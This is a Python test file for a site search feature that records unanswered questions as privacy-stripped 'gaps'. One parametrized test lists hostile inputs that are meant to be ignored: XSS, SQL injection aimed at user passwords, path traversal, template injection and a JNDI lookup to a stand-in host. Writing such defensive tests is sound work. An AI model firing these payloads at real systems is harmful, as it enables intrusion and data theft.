"""From an unanswered question to a gap: what is noted, what is not, and what nobody can read out of it."""

from __future__ import annotations

import logging
import time
from concurrent.futures import ThreadPoolExecutor

import pytest
from django.core.management import CommandError, call_command
from django.db import DatabaseError, connection, connections
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from wagtail.models import Page

from search import gaps
from search.embedding import reset
from search.gaps import checking, figures, noting
from search.gaps.models import Asking, Gap, MonthCount
from search.index import services
from search.reader import ANONYMOUS, Reader
from search.retrieval import Answer, ask
from tests.searchable.factories import publish, restrict

pytestmark = pytest.mark.django_db

NOTHING = Answer(question="")
MEMBER = Reader(authenticated=True)
THINGS = """
Anker Boje Davit Echolot Fender Gangway Heck Inlett Jolle Kajüte Luke Mast Niedergang Ösfass Poller Quarz Reling Schot
Takelage Unterwant Vorstag Winsch Yacht Zeising Achterdeck Bugspriet Dolle Ebbe Flut Gezeiten
"""


@pytest.fixture(autouse=True)
def fresh():
    reset()
    noting.forget_recent()


def note(question, answer=NOTHING, language="de"):
    return gaps.note(question, language, answer)


def noted():
    return list(Asking.objects.order_by("question").values_list("question", flat=True))


def ask_as(reader, question, language="de"):
    """As the search page does it."""
    answer = ask(question, reader=reader, language=language)
    note(question, answer, language)
    return answer


# --- What is noted ---


def test_a_question_without_hits_is_noted_by_the_day():
    note("Wie beantragen wir ein Patent?")
    asking = Asking.objects.get()
    assert (asking.question, asking.language, asking.count) == ("Wie beantragen wir ein Patent?", "de", 1)
    assert asking.day == timezone.localdate()
    assert asking.gap is None


def test_an_answer_below_the_line_is_noted():
    note("Wie beantragen wir ein Patent?", Answer(question="", total=3, answered=False))
    assert len(noted()) == 1


@pytest.mark.parametrize(
    "answer",
    [
        Answer(question="", total=2),
        Answer(question="", timed_out=True),
        Answer(question="", lexical_only=True),
        Answer(question="", too_long=True),
        Answer(question="", lexical_only=True, answered=False),
    ],
    ids=["answered", "timed out", "words alone", "too long", "words alone and below the line"],
)
def test_what_is_no_gap_is_not_noted(answer):
    assert not note("Wie beantragen wir ein Patent?", answer)
    assert noted() == []


@pytest.mark.parametrize(
    "question",
    [
        "",
        "   ",
        "?!",
        "😀🎉",
        "und oder aber",
        "ab",
        "12345 678",
        "aaaaaaaaaa",
        "qwrtzpsdfgh",
        "<script>alert(1)</script>",
        "' or 1=1 --",
        "1 union select password from accounts_user",
        "../../etc/passwd",
        "%3Cimg%20src%3Dx%3E",
        "{{ 7*7 }}",
        "${jndi:ldap://evil.example/a}",
        "/wp-admin/index.php",
        "x" * 60,
        "שלום עולם",
        "Привет мир как дела",
        "wort " * 60,
        "a" * 10_000,
        '"genau diese Wörter"',
        "Patent -Anmeldung",
        "\x00\x01 \x1f",
        "vorname.nachname@firma.example",
    ],
)
def test_what_nobody_asks_is_not_noted(question):
    assert not note(question)
    assert noted() == []


def test_it_is_rid_of_people_before_it_is_written():
    note("Herr Klug (klug@firma.example, 040 123456) will ein Patent")
    assert noted() == ["[…] ([…]) will ein Patent"]


def test_it_is_cut():
    note(
        "Wie melden wir ein Patent an, wenn drei Betriebe aus zwei Branchen daran gearbeitet haben, einer davon "
        "inzwischen verkauft wurde, die Unterlagen bei einem anderen liegen und niemand mehr genau sagen kann, was "
        "damals verabredet worden ist?"
    )
    (question,) = noted()
    assert len(question) <= figures.LONGEST
    assert question.endswith(
        "verkauft wurde, die Unterlagen bei einem anderen liegen und niemand mehr genau sagen…"
    )


def test_no_row_says_who_when_or_in_which_order():
    """The fields are the promise: another one needs another text on the privacy page."""
    assert {field.name for field in Asking._meta.get_fields()} == {
        "id",
        "day",
        "language",
        "question",
        "count",
        "gap",
    }
    assert {field.name for field in MonthCount._meta.get_fields()} == {"id", "gap", "month", "count"}
    for model in (Asking, Gap):
        assert model._meta.pk.get_internal_type() == "UUIDField"
    note("Wie beantragen wir ein Patent?")
    assert Asking.objects.get().id.version == 4
    with connection.cursor() as cursor:
        cursor.execute("select pg_typeof(day)::text from gaps_asking")
        assert cursor.fetchone() == ("date",)


def test_the_language_is_that_of_the_question():
    note("How do we apply for a patent?", language="de")
    assert Asking.objects.get().language == "en"


def test_the_same_words_on_one_day_are_one_row(monkeypatch):
    monkeypatch.setattr(figures, "SAME_AGAIN_SECONDS", 0.0)
    note("Wie beantragen wir ein Patent?")
    note("Wie  beantragen wir ein Patent? ")
    assert Asking.objects.get().count == 2


def test_who_reloads_is_not_two_people():
    assert note("Wie beantragen wir ein Patent?")
    assert note("wie beantragen wir ein patent")
    assert Asking.objects.get().count == 1


def test_a_machine_fills_no_disk(monkeypatch):
    monkeypatch.setattr(figures, "MOST_A_DAY", 2)
    for question in ("Patent anmelden", "Marke anmelden", "Gewerbe anmelden"):
        note(question)
    assert len(noted()) == 2


def test_it_can_be_switched_off(settings):
    settings.SEARCH_NOTE_GAPS = False
    with CaptureQueriesContext(connection) as queries:
        assert not note("Wie beantragen wir ein Patent?")
    assert len(queries) == 0


# --- What it costs ---


def test_it_never_raises_and_says_nothing_of_the_question(monkeypatch, caplog):
    def broken(*arguments):
        raise DatabaseError("Failing row contains (geheime Frage)")

    monkeypatch.setattr(noting, "_insert", broken)
    with caplog.at_level(logging.DEBUG):
        assert not note("Eine geheime Frage nach dem Patent")
    assert "could not be noted: DatabaseError" in caplog.text
    assert "geheim" not in caplog.text.lower()


def test_a_refusing_database_spoils_nobodys_transaction(monkeypatch):
    monkeypatch.setattr(noting, "_INSERT", "insert into gaps_no_such_table values (1)")
    note("Wie beantragen wir ein Patent?")
    assert Page.objects.exists()


def test_its_limits_do_not_outlive_it():
    note("Wie beantragen wir ein Patent?")
    with connection.cursor() as cursor:
        cursor.execute("show statement_timeout")
        assert cursor.fetchone() == ("0",)
        cursor.execute("show synchronous_commit")
        assert cursor.fetchone() == ("on",)


def test_it_is_one_insert():
    note("Ein erstes Mal lädt die Wortliste")
    with CaptureQueriesContext(connection) as queries:
        note("Wie beantragen wir ein Patent?")
    ours = [
        query["sql"]
        for query in queries
        if "SAVEPOINT" not in query["sql"] and "to default" not in query["sql"]
    ]
    assert len(ours) == 1
    assert "insert into gaps_asking" in ours[0]


def test_a_possible_name_costs_one_query_more():
    note("Ein erstes Mal lädt die Wortliste")
    with CaptureQueriesContext(connection) as queries:
        note("Patent mit Oluwaseun Adeyemi und Ngozi Okonkwo")
    assert sum("search_posting" in query["sql"] for query in queries) == 1
    assert noted()[-1] == "Patent mit […] und […]"


def outside(work):
    """Runs `work` as a request does, on a connection without a transaction; deletes what it noted."""

    def run():
        try:
            return work()
        finally:
            Asking.objects.all().delete()
            connections.close_all()

    with ThreadPoolExecutor(1) as pool:
        return pool.submit(run).result()


def test_outside_a_transaction_it_commits_by_itself():
    def work():
        note("Wie beantragen wir ein Patent?")
        with connection.cursor() as cursor:
            cursor.execute("show statement_timeout")
            return connection.in_atomic_block, noted(), cursor.fetchone()

    assert outside(work) == (False, ["Wie beantragen wir ein Patent?"], ("0",))


# --- What is made of it ---


def test_the_same_question_in_other_words_is_one_gap():
    for question in (
        "Wie melden wir ein Patent an?",
        "Patent anmelden",
        "Patente: Wie melden wir sie an?",
        "wie meldet man patente an",
    ):
        note(question)
    assert checking.check_noted().gaps >= 1
    found = Gap.objects.all()
    words = {tuple(gap.words) for gap in found}
    assert len(found) < 4, words


def test_order_endings_numbers_and_hyphens_do_not_matter():
    for question in (
        "Cross-Innovation Patent 2026",
        "Patente und Cross Innovation",
        "Patent, Cross-Innovation?",
    ):
        note(question)
        noting.forget_recent()
    checking.check_noted()
    gap = Gap.objects.get()
    assert gap.words[:2] == ["Cross", "Innovation"]
    assert gap.words[2] in ("Patent", "Patente"), (
        "as the one wrote it that was looked at first, which is by chance"
    )
    assert gap.askings.count() == 3


def test_languages_stay_apart():
    note("Patent")
    note("the patent", language="en")
    checking.check_noted()
    assert sorted(Gap.objects.values_list("language", flat=True)) == ["de", "en"]


def test_a_typing_error_belongs_to_what_was_meant(monkeypatch):
    monkeypatch.setattr(
        checking, "ask", lambda question, **_: Answer(question=question, suggestion="Patent anmelden")
    )
    note("Patnet anmelden")
    checking.check_noted()
    assert Gap.objects.get().words == ["anmelden", "Patent"]


def test_checking_twice_changes_nothing():
    note("Wie beantragen wir ein Patent?")
    assert checking.check_noted() == checking.Checked(gaps=1)
    assert checking.check_noted() == checking.Checked()
    assert Gap.objects.count() == 1


def test_what_cannot_be_said_now_is_asked_later(monkeypatch):
    note("Wie beantragen wir ein Patent?")
    monkeypatch.setattr(checking, "ask", lambda question, **_: Answer(question=question, lexical_only=True))
    assert checking.check_noted() == checking.Checked(later=1)
    monkeypatch.undo()
    assert checking.check_noted() == checking.Checked(gaps=1)


def test_what_a_filter_hid_is_no_gap():
    """Whoever notes an answer to a filtered question by mistake: asked again without, it is answered."""
    publish("Patente anmelden", "Ein Patent meldet man beim Patentamt an.")
    services.index_due()
    note("Patente anmelden")
    assert checking.check_noted() == checking.Checked(answered=1)
    assert noted() == []


# --- Private pages ---


@pytest.fixture
def private():
    """A page for members that answers, and a public one beside it."""
    publish("Kaffee kochen", "Wasser, Bohnen und ein Filter.")
    page = publish("Patente anmelden", "Ein Patent meldet man beim Patentamt an.")
    restrict(Page.objects.get(pk=page.pk))
    services.index_due()
    return page


def rows():
    """What an editor can learn: everything but ids."""
    return (
        sorted(Asking.objects.values_list("day", "language", "question", "count")),
        sorted((gap.language, gap.words, gap.nearest) for gap in Gap.objects.all()),
    )


def test_a_visitors_question_leaves_the_same_rows_with_and_without_a_private_page(private):
    ask_as(ANONYMOUS, "Patente anmelden")
    checking.check_noted()
    with_page = rows()
    assert with_page[1] == [("de", ["anmelden", "Patente"], [])]
    Asking.objects.all().delete()
    Gap.objects.all().delete()
    noting.forget_recent()
    Page.objects.get(pk=private.pk).delete()
    ask_as(ANONYMOUS, "Patente anmelden")
    checking.check_noted()
    assert rows() == with_page


def test_what_a_member_finds_on_a_private_page_is_not_noted(private):
    assert ask_as(MEMBER, "Patente anmelden").total == 1
    checking.check_noted()
    assert rows() == ([], [])


def test_a_members_question_leaves_what_a_visitors_leaves(private):
    ask_as(MEMBER, "Wie gründet man einen Verein?")
    checking.check_noted()
    of_a_member = rows()
    assert len(of_a_member[1]) == 1
    Asking.objects.all().delete()
    Gap.objects.all().delete()
    noting.forget_recent()
    ask_as(ANONYMOUS, "Wie gründet man einen Verein?")
    checking.check_noted()
    assert rows() == of_a_member


def test_what_only_a_member_is_refused_is_no_gap(private):
    """Scores are relative: with a private page in between, a member could be told "nothing" of a public one."""
    note("Kaffee kochen", Answer(question="", answered=False, total=1))
    checking.check_noted()
    assert rows() == ([], [])


def test_the_nearest_pages_are_those_a_visitor_is_offered(private, monkeypatch):
    asked = []

    def below_the_line(question, **options):
        asked.append(options)
        answer = ask(question, **options)
        return Answer(question=question, hits=answer.hits, total=answer.total, answered=False)

    monkeypatch.setattr(checking, "ask", below_the_line)
    note("Kaffee und Patente", Answer(question="", answered=False, total=2))
    checking.check_noted()
    coffee = Page.objects.get(title="Kaffee kochen")
    assert Gap.objects.get().nearest == [coffee.translation_key]
    assert asked[0]["reader"] == ANONYMOUS


def test_words_of_private_pages_do_not_decide_what_is_masked():
    """Else a name could be tried out: kept in the report, it would stand on a page that one may not read."""
    page = publish("Krögermann Wiebuschen", "Über Krögermann Wiebuschen.")
    restriction = restrict(Page.objects.get(pk=page.pk))
    services.index_due()
    note("Vertrag Krögermann Wiebuschen prüfen")
    assert "Krögermann" not in noted()[0]
    restriction.delete()
    Asking.objects.all().delete()
    noting.forget_recent()
    note("Vertrag Krögermann Wiebuschen prüfen")
    assert noted() == ["Vertrag Krögermann Wiebuschen prüfen"]


# --- Time ---


def test_noting_takes_no_time_that_a_reader_notices():
    """The limit only catches what would be felt; docs/decisions/search-gaps.md has the measurement."""

    def work():
        note("Ein erstes Mal lädt die Wortliste")
        times = []
        for thing in THINGS.split():
            started = time.perf_counter()
            note(f"Wie beantragen wir ein Patent auf {thing}?")
            times.append(time.perf_counter() - started)
        return sorted(times)[len(times) // 2], len(noted())

    middle, rows_made = outside(work)
    assert rows_made == 31
    assert middle < 0.02


# --- The operator ---


def test_the_command_deletes_everything(capsys):
    note("Wie beantragen wir ein Patent?")
    checking.check_noted()
    MonthCount.objects.create(gap=Gap.objects.get(), month=timezone.localdate().replace(day=1), count=3)
    call_command("gaps_forget", "--no-input")
    assert "1 wordings of 1 questions" in capsys.readouterr().out
    assert not Asking.objects.exists()
    assert not Gap.objects.exists()
    assert not MonthCount.objects.exists()


def test_the_command_asks_first(monkeypatch):
    note("Wie beantragen wir ein Patent?")
    monkeypatch.setattr("builtins.input", lambda _: "no")
    with pytest.raises(CommandError, match="Nothing was deleted"):
        call_command("gaps_forget")
    assert len(noted()) == 1
